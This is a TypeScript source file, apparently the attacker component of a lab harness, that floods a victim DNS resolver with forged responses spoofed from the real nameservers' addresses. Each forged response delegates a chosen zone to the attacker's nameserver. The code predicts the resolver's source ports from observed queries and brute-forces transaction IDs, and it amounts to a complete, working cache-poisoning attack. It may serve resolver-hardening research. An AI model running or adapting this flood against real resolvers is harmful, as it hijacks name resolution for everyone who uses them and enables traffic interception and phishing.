// Floods the victim with forged responses, in the attacker's namespace, which has the true nameservers' addresses too.
// Started by forger-lab.ts.
import { randomInt } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { setImmediate } from 'node:timers/promises';
import packet from 'dns-packet';

export interface FloodPlan {
  seconds: number;
  victim: string;
  /** Whose responses are forged. */
  servers: string[];
  /** The questions that are answered. */
  questions: { name: string; type: 'NS' | 'SOA' }[];
  /** Every response delegates this zone to the attacker's nameserver. */
  forgedApex: string;
  attacker: string;
}

/** Ports that Nameplate shares, for each IP version. */
const PORTS = 8;
/** For how long a port is guessed after it was seen. */
const PORT_MS = 10_000;
const EPHEMERAL = [32_768, 61_000] as const;
/** Ids in a row, before others are heard. */
const IDS_AT_ONCE = 64;
const AIM_MS = 500;

const { seconds, victim, servers, questions, forgedApex, attacker }: FloodPlan = JSON.parse(process.argv[2] ?? '');
const responses = questions.map((question) =>
  packet.encode({
    type: 'response',
    questions: [question],
    authorities: [{ type: 'NS', name: forgedApex, ttl: 3600, data: `ns.${forgedApex}` }],
    additionals: [{ type: 'A', name: `ns.${forgedApex}`, ttl: 3600, data: attacker }],
  }),
);
/** When the attacker's nameserver saw each port. */
const seen = new Map<number, number[]>();
/** A socket for each server that is forged. */
const sockets = new Map<number, Socket[]>();

/** The ports that the attacker's nameserver sees most; where it sees none twice, any. */
function likelyPorts(): number[] {
  for (const [port, times] of seen) {
    const recent = times.filter((at) => at > Date.now() - PORT_MS);
    if (recent.length > 0) seen.set(port, recent);
    else seen.delete(port);
  }
  const shared = [...seen].filter(([, { length }]) => length > 1).toSorted(([, a], [, b]) => b.length - a.length);
  if (shared.length > 0) return shared.slice(0, PORTS).map(([port]) => port);
  return Array.from({ length: PORTS }, () => randomInt(...EPHEMERAL));
}

async function openSocket(address: string, port: number): Promise<Socket> {
  const socket = createSocket({ type: 'udp4', reuseAddr: true });
  // The port may be closed by now.
  socket.on('error', () => {});
  socket.bind(53, address);
  await once(socket, 'listening');
  socket.connect(port, victim);
  await once(socket, 'connect');
  return socket;
}

async function aim(): Promise<Socket[]> {
  const ports = likelyPorts();
  for (const [port, open] of sockets) {
    if (ports.includes(port)) continue;
    for (const socket of open) socket.close();
    sockets.delete(port);
  }
  for (const port of ports) {
    if (!sockets.has(port)) sockets.set(port, await Promise.all(servers.map((address) => openSocket(address, port))));
  }
  return [...sockets.values()].flat();
}

setTimeout(() => process.exit(), seconds * 1000);
process.on('disconnect', () => process.exit());
process.on('message', ({ port }: { port: number }) => seen.set(port, [...(seen.get(port) ?? []), Date.now()]));

for (let id = randomInt(0x10000); ; ) {
  const aimed = await aim();
  let packets = 0;
  for (const until = Date.now() + AIM_MS; Date.now() < until; await setImmediate()) {
    for (let ids = 0; ids < IDS_AT_ONCE; ids++) {
      id = (id + 1) & 0xffff;
      for (const response of responses) {
        response.writeUInt16BE(id, 0);
        // Without a callback the octets are sent, or dropped, at once.
        for (const socket of aimed) socket.send(response);
      }
    }
    packets += IDS_AT_ONCE * responses.length * aimed.length;
  }
  process.send?.({ packets });
}
